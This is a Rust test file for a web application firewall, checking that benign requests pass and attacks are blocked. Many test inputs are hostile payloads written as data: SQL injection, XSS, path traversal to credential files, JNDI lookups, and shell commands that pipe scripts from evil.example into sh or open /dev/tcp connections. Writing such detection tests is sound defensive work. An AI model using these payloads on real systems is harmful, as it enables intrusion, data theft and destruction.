//! Family-level and configuration tests of the compiled WAF.

use super::*;

fn waf_with(json: &str) -> Waf {
    let cfg: WafConfig = serde_json::from_str(json).unwrap_or_default();
    match Waf::compile(&cfg, "policies.api.waf") {
        Ok(w) => w,
        Err(e) => panic!("compile failed: {e:?}"),
    }
}

fn get(target: &str, headers: &[(&str, &str)]) -> Request {
    let mut h: Vec<(String, Vec<u8>)> = vec![
        (":method".into(), b"GET".to_vec()),
        (":path".into(), target.as_bytes().to_vec()),
        (":authority".into(), b"api.example.com".to_vec()),
        ("accept".into(), b"application/json".to_vec()),
        ("user-agent".into(), b"Mozilla/5.0 (X11; Linux x86_64)".to_vec()),
    ];
    h.extend(headers.iter().map(|(n, v)| (n.to_string(), v.as_bytes().to_vec())));
    Request::from_headers(h)
}

fn post(target: &str, ct: &str, body: &str, waf: &Waf) -> Outcome {
    send(waf, "POST", target, &[], ct, body)
}

/// A request with a body: `method`, `target`, the headers of [`get`], `headers`, then
/// `Content-Type: ct` and its `Content-Length`.
fn send(waf: &Waf, method: &str, target: &str, headers: &[(&str, &str)], ct: &str, body: &str) -> Outcome {
    let mut h = vec![("content-type", ct)];
    h.extend_from_slice(headers);
    let mut r = get(target, &h);
    r.method = method.into();
    r.push_header("content-length", body.len().to_string().as_bytes());
    let mut s = waf.inspect_head(&r);
    waf.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
    waf.outcome(&s)
}

fn outcome(waf: &Waf, target: &str) -> Outcome {
    waf.outcome(&waf.inspect_head(&get(target, &[])))
}

fn blocked_category(o: &Outcome, c: Category) -> bool {
    o.blocked && o.matches.iter().any(|m| m.category == c)
}

#[test]
fn a_benign_search_request_passes() {
    let w = waf_with("{}");
    let o = outcome(&w, "/search?q=running+shoes&category=sports&page=2&sort=price_asc&in_stock=true");
    assert!(!o.blocked, "{o:?}");
}

#[test]
fn sql_injection_in_a_query_is_blocked() {
    let w = waf_with("{}");
    for t in [
        "/p?id=1%27%20OR%20%271%27=%271",
        "/p?id=1+UNION+SELECT+password+FROM+users",
        "/p?id=1;waitfor%20delay%20'0:0:5'--",
        "/p?q=1%27%20and%20sleep(5)%23",
    ] {
        assert!(blocked_category(&outcome(&w, t), Category::Sqli), "{t}");
    }
}

#[test]
fn xss_vectors_are_blocked() {
    let w = waf_with("{}");
    for t in [
        "/p?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/p?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/p?u=javascript:alert(1)",
        "/p?q=%26lt;svg/onload=alert(1)%26gt;",
    ] {
        assert!(blocked_category(&outcome(&w, t), Category::Xss), "{t}");
    }
}

#[test]
fn path_traversal_and_os_files_are_blocked() {
    let w = waf_with("{}");
    assert!(blocked_category(&outcome(&w, "/download?file=..%2F..%2F..%2Fetc%2Fpasswd"), Category::Lfi));
    assert!(blocked_category(&outcome(&w, "/static/.git/config"), Category::Lfi));
}

#[test]
fn remote_file_inclusion_with_an_ip_url_is_blocked() {
    let w = waf_with("{}");
    assert!(blocked_category(&outcome(&w, "/x.php?src=http://66.240.183.75/crash.php"), Category::Rfi));
}

#[test]
fn command_injection_is_blocked() {
    let w = waf_with("{}");
    for t in [
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/ping?host=x%7Cwget%20http://e.vil/x",
        "/x?c=$(id)",
        "/x?c=%60whoami%60",
    ] {
        assert!(blocked_category(&outcome(&w, t), Category::Rce), "{t}");
    }
}

#[test]
fn php_injection_is_blocked() {
    let w = waf_with("{}");
    assert!(blocked_category(&outcome(&w, "/x?a=%3C?php%20system($_GET[c]);%20?%3E"), Category::Php));
    assert!(blocked_category(&outcome(&w, "/x?f=php://filter/convert.base64-encode/resource=index"), Category::Php));
}

#[test]
fn java_attacks_are_blocked() {
    let w = waf_with("{}");
    let o = w.outcome(&w.inspect_head(&get("/", &[("user-agent", "${jndi:ldap://x.y/a}")])));
    assert!(blocked_category(&o, Category::Java), "{o:?}");
    assert!(blocked_category(&outcome(&w, "/x?a=java.lang.Runtime"), Category::Java));
}

#[test]
fn nodejs_attacks_are_blocked() {
    let w = waf_with("{}");
    let o = post("/api", "application/json", r#"{"__proto__":{"admin":true}}"#, &w);
    assert!(blocked_category(&o, Category::Nodejs), "{o:?}");
    assert!(blocked_category(&outcome(&w, "/x?a=require('child_process').exec('id')"), Category::Nodejs));
}

#[test]
fn ssrf_to_cloud_metadata_is_blocked() {
    let w = waf_with("{}");
    assert!(blocked_category(&outcome(&w, "/fetch?url=http://169.254.169.254/latest/meta-data/"), Category::Ssrf));
}

#[test]
fn scanner_user_agents_are_blocked() {
    let w = waf_with("{}");
    let o = w.outcome(&w.inspect_head(&get("/", &[("user-agent", "sqlmap/1.7")])));
    assert!(blocked_category(&o, Category::Scanner), "{o:?}");
}

#[test]
fn session_ids_in_arguments_without_a_same_site_referer_are_blocked() {
    let w = waf_with("{}");
    let o = w.outcome(&w.inspect_head(&get("/login?jsessionid=74B0CB41", &[("referer", "https://attacker.example/")])));
    assert!(blocked_category(&o, Category::SessionFixation));
    let o =
        w.outcome(&w.inspect_head(&get("/login?jsessionid=74B0CB41", &[("referer", "https://api.example.com/home")])));
    assert!(!o.blocked);
}

#[test]
fn smuggling_headers_are_protocol_abuse() {
    let w = waf_with("{}");
    let o = w.outcome(&w.inspect_head(&get("/", &[("content-length", "4"), ("transfer-encoding", "chunked")])));
    assert!(blocked_category(&o, Category::Protocol));
}

#[test]
fn sql_injection_in_a_nested_json_field_is_blocked_and_named() {
    let w = waf_with("{}");
    let o = post("/api", "application/json", r#"{"user":{"name":"x' OR '1'='1"}}"#, &w);
    assert!(o.blocked);
    assert!(o.matches.iter().any(|m| m.target == "json:$.user.name"), "{o:?}");
}

#[test]
fn excluding_a_json_field_silences_it() {
    let w = waf_with(r#"{"exclusions":[{"target":"json:$.comment","tags":["sqli"]}]}"#);
    let o = post("/api", "application/json", r#"{"comment":"x' OR '1'='1"}"#, &w);
    assert!(!o.matches.iter().any(|m| m.category == Category::Sqli), "{o:?}");
}

#[test]
fn detect_only_mode_scores_without_blocking() {
    let w = waf_with(r#"{"mode":"detect_only"}"#);
    let o = outcome(&w, "/p?id=1+UNION+SELECT+1");
    assert!(o.over_threshold && !o.blocked);
}

#[test]
fn disabled_rules_and_tags_do_not_run() {
    let w = waf_with(r#"{"disabled_tags":["xss"]}"#);
    assert!(!outcome(&w, "/p?q=%3Cscript%3E").matches.iter().any(|m| m.category == Category::Xss));
}

#[test]
fn custom_rules_match_with_their_transformations() {
    let w = waf_with(
        r#"{"custom_rules":[{"id":100001,"targets":["header:x-api-version"],"operator":"equals","pattern":"v0","transformations":["lowercase"]}]}"#,
    );
    let o = w.outcome(&w.inspect_head(&get("/", &[("x-api-version", "V0")])));
    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 100001), "{o:?}");
}

/// A rule with both selectors and target names runs on both (docs/waf.md's tuning example): the
/// selector's classes anywhere, the names where they match, and nowhere else.
#[test]
fn custom_rules_with_selectors_and_names_run_on_both() {
    let w = waf_with(
        r#"{"custom_rules":[{"id":100002,"targets":["args","json:$.query"],"operator":"contains","pattern":"forbidden-word","score":5}]}"#,
    );
    let hit = |o: &Outcome| o.matches.iter().any(|m| m.rule_id == 100002);
    let o = w.outcome(&w.inspect_head(&get("/x?a=a%20forbidden-word", &[])));
    assert!(hit(&o), "the args selector: {o:?}");
    assert!(hit(&json_post(&w, r#"{"query": "a forbidden-word"}"#)), "the name json:$.query");
    assert!(hit(&json_post(&w, r#"{"other": "a forbidden-word"}"#)), "JSON values are args too");
    let o = w.outcome(&w.inspect_head(&get("/x", &[("x-note", "a forbidden-word")])));
    assert!(!hit(&o), "a header is neither: {o:?}");
    let only_name = waf_with(
        r#"{"custom_rules":[{"id":100003,"targets":["json:$.query"],"operator":"contains","pattern":"forbidden-word","score":5}]}"#,
    );
    let hit3 = |o: &Outcome| o.matches.iter().any(|m| m.rule_id == 100003);
    assert!(hit3(&json_post(&only_name, r#"{"query": "a forbidden-word"}"#)));
    assert!(!hit3(&json_post(&only_name, r#"{"other": "a forbidden-word"}"#)), "names alone: only those names");
    let o = only_name.outcome(&only_name.inspect_head(&get("/x?query=a%20forbidden-word", &[])));
    assert!(!hit3(&o), "args:query is not json:$.query: {o:?}");
}

#[test]
fn configuration_mistakes_are_reported_with_paths() {
    let cfg: WafConfig = serde_json::from_str(
        r#"{"paranoia_level":7,"disabled_rules":[9],"allowed_content_types":["application/json","hl7"],"custom_rules":[{"id":5,"targets":["nowhere"],"operator":"regex","pattern":"(a","transformations":["rot13"]}]}"#,
    )
    .unwrap_or_default();
    let errors = Waf::compile(&cfg, "policies.api.waf").err().unwrap_or_default();
    let paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
    for p in [
        "policies.api.waf.paranoia_level",
        "policies.api.waf.disabled_rules[0]",
        "policies.api.waf.custom_rules[0].id",
        "policies.api.waf.custom_rules[0].targets[0]",
        "policies.api.waf.custom_rules[0].transformations[0]",
        "policies.api.waf.custom_rules[0].pattern",
        "policies.api.waf.allowed_content_types[1]",
    ] {
        assert!(paths.contains(&p), "{p} missing from {paths:?}");
    }
    assert!(!paths.contains(&"policies.api.waf.allowed_content_types[0]"), "{paths:?}");
}

#[test]
fn the_budget_stops_inspection_and_denies_by_default() {
    let w = waf_with(r#"{"budget":{"max_values":3}}"#);
    let o = outcome(&w, "/p?a=1&b=2&c=3&d=4");
    assert!(o.incomplete && o.blocked);
    let w = waf_with(r#"{"budget":{"max_values":3,"over_budget":"inspect_prefix"}}"#);
    let o = outcome(&w, "/p?a=1&b=2&c=3&d=4");
    assert!(o.incomplete && !o.blocked);
}

#[test]
fn inspection_is_total_on_random_requests() {
    let w = waf_with(r#"{"paranoia_level":4}"#);
    let mut seed = 11u64;
    let alphabet: &[u8] = b"%&=?/;'\"<>()[]{}$`|\\.-+*#:@!,0aAzZ \t\r\n\0\xff\xef\xbc";
    for i in 0..3000 {
        let mut v = Vec::new();
        for _ in 0..((i % 90) + 1) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            v.push(if i % 3 == 0 { seed as u8 } else { alphabet[(seed as usize) % alphabet.len()] });
        }
        let mut r = get("/", &[("x-v", "1")]);
        r.target = [b"/a?".as_slice(), &v].concat();
        r.push_header("cookie", &v);
        let mut s = w.inspect_head(&r);
        for ct in [
            "application/json",
            "multipart/form-data; boundary=a",
            "text/xml",
            "application/x-www-form-urlencoded",
            "text/plain",
        ] {
            w.inspect_body(&mut s, ct.as_bytes(), &v);
        }
        let _ = w.outcome(&s);
    }
}

#[test]
fn windows_batch_powershell_globbed_paths_and_process_substitution_are_command_injection() {
    let waf = waf_with("{}");
    for target in [
        "/get?foo=for%20%25v%20in%20%28set%29%20do%20command",
        "/get?foo=IF+%25ERRORLEVEL%25+NEQ+0+echo+failed",
        "/get?foo=if+not+%282+equ+2%29+echo+hey",
        "/get?cmd=%3Biwr%20http://example.com/p.ps1",
        "/get?s=/etc/pas%5Bs%5Dwd",
        "/get?shell=%2Fusr%2F%5Ba-z%5Din%2Fbash",
        "/get?out=%3E%28tee%20log%29",
    ] {
        assert!(blocked_category(&outcome(&waf, target), Category::Rce), "{target}");
    }
    for target in [
        "/search?q=if+you+want+to+go%2C+do+it",
        "/docs?path=/usr/share/doc/readme",
        "/items?filter=tags%5B0%5D",
        "/search?q=for+each+item+in+the+list+do+something",
    ] {
        assert!(!outcome(&waf, target).blocked, "{target}");
    }
}

#[test]
fn java_runtime_class_paths_corba_and_jsp_uploads_are_java_attacks() {
    let waf = waf_with("{}");
    assert!(blocked_category(&outcome(&waf, "/x?test=java.Runtime"), Category::Java));
    assert!(blocked_category(&outcome(&waf, "/x?test=org.omg.CORBA"), Category::Java));
    let body =
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.jspx \"\r\n\r\n<% x %>\r\n--b--\r\n";
    assert!(blocked_category(&post("/upload", "multipart/form-data; boundary=b", body, &waf), Category::Java));
    let ok = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.pdf\"\r\n\r\n%PDF\r\n--b--\r\n";
    assert!(!post("/upload", "multipart/form-data; boundary=b", ok, &waf).blocked);
}

#[test]
fn known_inclusion_parameters_with_a_remote_url_are_caught_on_the_request_uri() {
    let waf = waf_with("{}");
    let o = outcome(&waf, "/plugins/BaseAdmin.class.php?_CONF[path]=https://foo.bar");
    assert!(blocked_category(&o, Category::Rfi), "{o:?}");
}

fn json_post(waf: &Waf, body: &str) -> Outcome {
    post("/v1/items", "application/json", body, waf)
}

/// `v` for a query string: every byte but a letter or digit as `%XX`.
fn query_escaped(v: &str) -> String {
    v.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}

/// `v` sent the two ways the false-positive rounds' tests send a value: as the JSON body's field
/// `v` and as the query argument `v`.
fn as_field_and_query(waf: &Waf, v: &str) -> [Outcome; 2] {
    [
        json_post(waf, &serde_json::json!({ "v": v }).to_string()),
        outcome(waf, &format!("/api/x?v={}", query_escaped(v))),
    ]
}

#[test]
fn a_url_shaped_value_ending_in_a_question_mark_is_remote_inclusion() {
    let waf = waf_with("{}");
    for t in [
        "/get?x=http%3F",
        "/get?x=file%3F",
        "/get?x=ftps://203.0.113.7/shell.txt%3F",
        "/get?x=https://evil.example/x%3F%3F",
    ] {
        assert!(blocked_category(&outcome(&waf, t), Category::Rfi), "{t}");
    }
    for t in [
        "/search?q=http+or+https%3F",
        "/search?q=is+ftp+secure%3F",
        "/go?next=https://www.example.com/checkout%3Fstep%3D2",
        "/search?q=files%3F",
    ] {
        assert!(!outcome(&waf, t).blocked, "{t}");
    }
}

#[test]
fn prose_quoting_sql_shell_and_paths_passes_but_an_injection_in_prose_is_caught() {
    let waf = waf_with("{}");
    for body in [
        r#"{"comment": "Use SELECT name FROM users WHERE id = ? with a prepared statement, never string concatenation in your code."}"#,
        r#"{"body": "Can't reproduce on 2.3.1. Could you paste the output of `uname -a && docker version` here please?"}"#,
        r#"{"text": "I disagree -- the 'and' vs 'or' distinction matters here. If A or B is true, then the select list is shown."}"#,
        r#"{"body": "The cron job writes to /var/log/backup.log and fails since the upgrade; the log says permission denied for the user."}"#,
        r#"{"body": "Steps to reproduce the crash:\n1. Open the app\n2. Clear the list\nExpected: nothing happens at all.\nActual: the app closes."}"#,
        r#"{"body": "Careful with NULLs -- a plain comparison won't return rows where the column is null, so use IS DISTINCT FROM instead of it."}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // The same kind of text with an injection in it: the injection rules still count in prose.
    for body in [
        r#"{"comment": "Really nice article, thanks for writing it up for all of us' union select password from users -- "}"#,
        r#"{"comment": "Really nice article, thanks for writing it up for all of us' or 1=1 -- and more words here"}"#,
        r#"{"comment": "Really nice article, thanks for writing it up for all of us <script>alert(document.cookie)</script>"}"#,
        r#"{"comment": "Really nice article, thanks for writing it up for all of us'; drop table users; -- bye now"}"#,
    ] {
        assert!(json_post(&waf, body).blocked, "{body}");
    }
    // A short value with the same shapes is not prose: still blocked.
    for t in ["/p?q=%3B+uname+-a", "/p?q=1%20and%202%3C4", "/p?f=/var/log/auth.log"] {
        assert!(outcome(&waf, t).blocked, "{t}");
    }
}

#[test]
fn graphql_documents_are_inspected_by_their_literals() {
    let waf = waf_with("{}");
    for body in [
        r#"{"query": "query Orders($first: Int = 20, $where: OrderFilter) { orders(first: $first, where: $where) { nodes { id total } } }", "variables": {"first": 50}}"#,
        r#"{"query": "{ search(term: \"union station\", first: 5) { ... on Place { name address } } }"}"#,
        r#"{"query": "mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token } }"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // An injection inside a string literal of the document is inspected as a value of its own.
    let attack = r#"{"query": "{ user(name: \"x' or '1'='1' -- \") { id } }"}"#;
    assert!(blocked_category(&json_post(&waf, attack), Category::Sqli));
    // Anything that is not GraphQL syntax outside the literals makes it an ordinary value.
    let mixed = r#"{"query": "{ user { id } }' union select password from users--"}"#;
    assert!(blocked_category(&json_post(&waf, mixed), Category::Sqli));
    assert!(blocked_category(&outcome(&waf, "/get?x=%7Bid%2C%7D"), Category::Rce));
}

#[test]
fn quoted_words_and_query_strings_are_not_breakouts_or_globs() {
    let waf = waf_with("{}");
    for t in [
        "/search?q=%22drop+shipping%22+vs+wholesale",
        "/search?q=what+does+%22select+all%22+do",
        "/redirect?to=%2Fdashboard%3Ftab%3Dbilling",
        "/search?q=it+costs+%2410+(or+%2415+at+the+door)",
        "/search?q=What%27s+the+difference+between+%27let%27+and+%27const%27+in+JavaScript%3F",
    ] {
        let o = outcome(&waf, t);
        assert!(!o.blocked, "{t}: {o:?}");
    }
    for t in [
        "/post?v=%27select+h",
        "/post?v=%27alter+a",
        "/post?v=%22%3Bselect+p",
        "/post?v=x%27%29+order+by+1",
        "/get?c=cat+/e%3Fc/p%3Fss%3Fd",
        "/get?c=%24_GET%5Bx%5D(%24_GET%5By%5D)",
        "/p?q=1%27%20and%20id%20in%20(select%201)",
    ] {
        assert!(outcome(&waf, t).blocked, "{t}");
    }
}

#[test]
fn arithmetic_is_not_sql_injection_unless_it_spells_hex_strings() {
    let waf = waf_with("{}");
    for body in [r#"{"expression": "(2 + 3) * 4 = 20"}"#, r#"{"expr": "sum(a, b) / 2"}"#, r#"{"f": "1/(1+exp(-x))"}"#] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    let o = json_post(&waf, r#"{"v": "concat(0x223e3c62723e,version(),0x3c696d67207372633d22)"}"#);
    assert!(blocked_category(&o, Category::Sqli), "{o:?}");
}

#[test]
fn c_conditions_and_the_word_powershell_are_not_windows_commands() {
    let waf = waf_with("{}");
    let o = json_post(&waf, r#"{"code": "for (int i = 0; i < n; i++) { if (buf[i] == 0) break; }"}"#);
    assert!(!o.matches.iter().any(|m| m.rule_id == 3206), "{o:?}");
    assert!(!json_post(&waf, r#"{"title": "PowerShell"}"#).blocked);
    for t in ["/get?foo=if+%28AA%29+%3D%3D+%28AA%29+echo+same", "/get?c=powershell+-enc+SQBFAFgA", "/get?c=pwsh.exe"] {
        assert!(blocked_category(&outcome(&waf, t), Category::Rce), "{t}");
    }
}

fn form_post(waf: &Waf, body: &str) -> Outcome {
    post("/api/things", "application/x-www-form-urlencoded", body, waf)
}

#[test]
fn sql_that_stands_on_its_own_is_weak_but_a_breakout_is_critical() {
    let waf = waf_with("{}");
    // Filter expressions, SQL console statements and quoted search terms: balanced quotes and
    // parentheses, nothing stacked. Weak signals only, one per family and value.
    for body in [
        r#"{"filter": "plan = 'pro' and seats > 10 and (region = 'eu' or region = 'uk')"}"#,
        r#"{"sql": "select id, name, sum(total) from customers group by id, name order by name"}"#,
        r#"{"q": "\"and\" or \"or\" in a boolean search"}"#,
        r#"{"rule": "cart.total >= 100 && cart.currency != 'usd'"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // The same families of shapes with a breakout: a quote after a word, a string that starts
    // with a space, a stacked statement, an unclosed subquery, a hex-spelled string.
    for body in [
        r#"{"v": "a'or'a"}"#,
        r#"{"v": "x' and id is not null--"}"#,
        r#"{"v": "'; waitfor delay '0:0:5'"}"#,
        r#"{"v": ";drop table users"}"#,
        r#"{"v": "1 and (select 1 from users where name like 'a%'"}"#,
        r#"{"v": "select concat(0x61646d696e, password) from users"}"#,
    ] {
        assert!(blocked_category(&json_post(&waf, body), Category::Sqli), "{body}");
    }
}

#[test]
fn a_tag_that_is_only_named_is_weak_but_markup_that_can_act_is_critical() {
    let waf = waf_with("{}");
    for body in [r#"{"title": "<iframe>: the inline frame element"}"#, r#"{"q": "when do I need <noscript>?"}"#] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r#"{"title": "<iframe src=//evil.example/x>"}"#,
        r#"{"title": "<script>alert(1)</script>"}"#,
        r#"{"title": "<style>@import'//evil.example/x.css'</style>"}"#,
        r#"{"title": "<script>: <svg onload=alert(1)>"}"#,
    ] {
        assert!(blocked_category(&json_post(&waf, body), Category::Xss), "{body}");
    }
}

#[test]
fn commands_chained_in_a_script_are_weak_but_an_injected_or_system_reaching_command_is_critical() {
    let waf = waf_with("{}");
    for body in [
        r#"{"script": "npm ci && ls -la dist"}"#,
        r#"{"command": "find build -name '*.o' -delete; echo cleaned"}"#,
        r#"{"code": "Get-ChildItem -Recurse -Filter *.tmp | Remove-Item"}"#,
        r#"{"cmd": "curl -fsS https://downloads.example.com/tool.tar.gz -o tool.tar.gz"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r#"{"host": "; cat /etc/passwd"}"#,
        r#"{"host": "127.0.0.1 && ls -la"}"#,
        r#"{"file": "report.pdf | id"}"#,
        r#"{"cmd": "curl -s https://evil.example/a.sh | sh"}"#,
        r#"{"cmd": "echo $(curl https://evil.example/a)"}"#,
        r#"{"cmd": "cat /etc/shadow"}"#,
        r#"{"cmd": "powershell -enc SQBFAFgAIAAoAE4AZQB3AA=="}"#,
        r#"{"cmd": "Invoke-WebRequest https://evil.example/x.ps1 -OutFile x.ps1"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
}

#[test]
fn weak_signals_block_only_when_corroborated_in_the_request() {
    let waf = waf_with("{}");
    // One weak signal (a console.log call in a code field) is not enough …
    let o = json_post(&waf, r#"{"code": "items.forEach(i => console.log(i.id));"}"#);
    assert!(!o.blocked && o.total_score == 3, "{o:?}");
    // … nor are several shape rules recognising the same snippet (one family, one value) …
    let o = json_post(&waf, r#"{"script": "make all && ls -la build"}"#);
    assert!(!o.blocked && o.total_score == 3, "{o:?}");
    // … but a second signal elsewhere in the request corroborates it.
    let o = json_post(&waf, r#"{"code": "console.log(1)", "q": "select name from users order by name"}"#);
    assert!(o.blocked && o.total_score == 6, "{o:?}");
}

#[test]
fn a_comment_glued_to_text_shellshock_lookalikes_and_markdown_lines_are_not_attacks() {
    let waf = waf_with("{}");
    for body in [
        r#"{"password": "Zx\"--9kq"}"#,
        r#"{"code": "fn main() { let x = 1; println!(\"{}\", x); }"}"#,
        r#"{"body": "Adds a retry helper.\n\nResults: p99 fell by half."}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    assert!(blocked_category(&form_post(&waf, "user=admin%22--&pw=x"), Category::Sqli));
    assert!(blocked_category(&form_post(&waf, "user=admin%27+--+&pw=x"), Category::Sqli));
    assert!(blocked_category(&form_post(&waf, "x=f%28%29%7B+f%7Cf%26+%7D%3Bf"), Category::Rce));
    assert!(blocked_category(&outcome(&waf, "/get?x=%28%29+%7B+%3A%3B%7D%3B+%2Fbin%2Fid"), Category::Rce));
    assert!(blocked_category(&json_post(&waf, r#"{"body": "x\r\nSet-Cookie: a=b"}"#), Category::Protocol));
}

#[test]
fn markup_with_only_inert_attributes_is_weak_but_markup_that_can_act_is_critical() {
    let waf = waf_with("{}");
    for body in [
        r#"{"title": "How to use <script type=module> in 2024"}"#,
        r#"{"html": "<p style=\"color: #333; font-size: 14px\">Thanks!</p><a href=\"https://x.example/a?b=1\">more</a>"}"#,
        r#"{"text": "Use `<input type=\"email\">` for e-mail fields"}"#,
        r#"{"doc": "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r#"{"t": "<script src=//evil.example/x.js>"}"#,
        r#"{"t": "<meta charset=\"UTF-7\">"}"#,
        r#"{"t": "<p style=\"background:url(javascript:alert(1))\">x</p>"}"#,
        r#"{"t": "`<script src=\"https://evil.example/x.js\">`"}"#,
        r#"{"t": "<a href=\"javascript:alert(1)\">x</a>"}"#,
        r#"{"t": "<div class=\"alert\" onclick=\"go()\">x</div>"}"#,
    ] {
        assert!(blocked_category(&json_post(&waf, body), Category::Xss), "{body}");
    }
}

#[test]
fn selectors_home_dotfiles_and_slashed_words_are_not_comments_or_system_paths() {
    let waf = waf_with("{}");
    for body in [
        r#"{"c": "the snippet document.querySelector('#app .item') returns null -- add defer"}"#,
        r#"{"c": "try export EDITOR=nano in your ~/.bashrc"}"#,
        r#"{"c": "lol yes/no/maybe?? :)"}"#,
        r#"{"c": "He said \"it's done\" -- but it wasn't."}"#,
        r#"{"c": "O'Reilly; Smith, J.; \"Data\" (2nd ed.)"}"#,
        r#"{"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // `process.env` is a member, not the `.env` file (Node.js's rule 3401 still reads it).
    let o = json_post(&waf, r#"{"c": "process.env.NODE_ENV"}"#);
    assert!(!o.matches.iter().any(|m| m.rule_id == 3001), "{o:?}");
    for t in [
        "/p?u=admin%27%23",
        "/p?u=admin%27+%23+x",
        "/p?f=%2Fhome%2Fkim%2F.bashrc",
        "/p?f=..%2F.ssh%2Fid_rsa",
        "/p?c=%3Bcat+%2Fb%3Fn%2Fc%3Ft",
        "/p?x=data:text/html;base64,PHNjcmlwdD4=",
        "/p?x=data:image/svg%2bxml;base64,PHN2Zz4=",
    ] {
        assert!(outcome(&waf, t).blocked, "{t}");
    }
}

#[test]
fn programs_by_design_are_one_weak_signal_but_what_reaches_the_system_is_critical() {
    let waf = waf_with("{}");
    for body in [
        // A shell script that sets options first, a Dockerfile, a cron line, a script whose
        // service command uses /etc/.
        r##"{"s": "#!/usr/bin/env bash\nset -euo pipefail\ndocker image ls | grep none | xargs -r docker rmi\n"}"##,
        r#"{"s": "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n"}"#,
        r#"{"s": "0 2 * * 0 /usr/bin/find /tmp -mtime +7 -delete"}"#,
        r##"{"s": "#!/bin/sh\nset -e\nlogrotate -f /etc/logrotate.d/app\nsystemctl reload nginx"}"##,
        r#"{"s": "ssh -i ~/.ssh/id_ed25519 deploy@10.0.0.12"}"#,
        // Code: a template literal, an `if a == b`, `System.out`.
        r#"{"s": "useEffect(() => {\n  fetch(`/api/users?page=${page}`)\n    .then(r => r.json());\n}, [page]);\n"}"#,
        r#"{"s": "def main():\n    pass\n\nif __name__ == '__main__':\n    main()\n"}"#,
        r#"{"s": "System.out.println(\"debug\");"}"#,
        // An SQL console: a whole statement.
        r#"{"sql": "SELECT date_trunc('day', created_at) AS day, count(*) FROM signups WHERE created_at >= '2024-05-01' GROUP BY 1 ORDER BY 1"}"#,
        r#"{"sql": "SELECT id FROM t WHERE created_at > now() - interval '7 days';"}"#,
        r#"{"f": "=SUMIFS(C:C, B:B, \">=\"&DATE(2024,1,1))"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r#"{"s": "cat /etc/subuid"}"#,
        r#"{"s": "gunzip -c /var/log/secure.gz"}"#,
        r#"{"s": "bash -c \"echo test\""}"#,
        r#"{"s": "exec 5<>/dev/tcp/8.8.8.8/80"}"#,
        r#"{"s": "cd /tmp && wget http://x.example/a | sh"}"#,
        r#"{"s": "set -e; cat /etc/passwd"}"#,
        r#"{"q": "1 order by 5--"}"#,
        r#"{"q": "x' or 1=1 order by 1"}"#,
        r#"{"q": "for /f %i in (a.txt) do echo %i"}"#,
        r#"{"q": "${cmd}"}"#,
    ] {
        assert!(json_post(&waf, body).blocked, "{body}");
    }
}

#[test]
fn text_bodies_that_are_json_are_read_as_json() {
    let waf = waf_with("{}");
    let report = r#"{"csp-report": {"document-uri": "https://a.example/", "source-file": "https://a.example/", "line-number": 14}}"#;
    for ct in ["application/csp-report", "text/plain"] {
        let o = post("/csp", ct, report, &waf);
        assert!(!o.blocked, "{ct}: {o:?}");
    }
    let o = post("/csp", "text/plain", r#"{"q": "1' or '1'='1"}"#, &waf);
    assert!(blocked_category(&o, Category::Sqli), "{o:?}");
}

#[test]
fn count_star_is_not_an_ldap_filter() {
    let waf = waf_with("{}");
    let o = json_post(&waf, r#"{"q": "status >= 3 and count(*) > 1"}"#);
    assert!(!o.matches.iter().any(|m| m.rule_id == 1016), "{o:?}");
    for q in ["*)(uid=*))(|(uid=*", "admin)(&(objectclass=*))", "x)(|(password=*))"] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(o.matches.iter().any(|m| m.rule_id == 1016), "{q}: {o:?}");
    }
}

#[test]
fn commands_quoted_in_code_spans_are_one_weak_signal() {
    let waf = waf_with("{}");
    for body in [
        r##"{"text": "Try `rm -rf node_modules && npm ci` then rebuild"}"##,
        r##"{"text": "pro tip: `git log --oneline --graph --all | head -30`"}"##,
        r##"{"query": "mutation { createComment(body: \"Try `rm -rf node_modules && npm ci` then rebuild\") { id } }"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // What a quoted command runs still counts: a download piped into a shell, an account file,
    // a substitution of an interpreter, a deletion from the root; and a bare substitution.
    for body in [
        r##"{"text": "Try `curl -s http://203.0.113.9/x | sh` then rebuild"}"##,
        r##"{"text": "please run `cat /etc/passwd` for me"}"##,
        r##"{"text": "then run `rm -rf / --no-preserve-root` now"}"##,
        r##"{"text": "`id`"}"##,
        r##"{"text": "name=`wget -qO- http://203.0.113.9/p`"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
    }
}

#[test]
